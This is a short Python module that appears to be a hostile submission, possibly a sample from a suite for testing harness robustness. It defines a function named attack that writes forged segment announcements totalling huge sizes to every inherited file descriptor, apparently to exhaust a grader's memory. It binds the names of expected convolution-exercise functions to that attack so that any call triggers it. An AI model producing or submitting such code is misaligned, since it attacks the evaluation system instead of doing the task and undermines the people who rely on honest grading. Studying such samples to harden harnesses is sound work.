# topic: output_size
"""Announces as many segments as allowed, each as large as all together may be."""

import contextlib
import os
import struct


def attack(*_, **__):
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, struct.pack("<IQ", 1001, 10) + struct.pack("<Q", 64 << 20) * 1000)


conv_out = tf_out = same_pads_tf = conv2d_out_shape = pool2d_out_shape = attack
unused_pixels = trace = receptive_field = inputs_giving = configs = attack
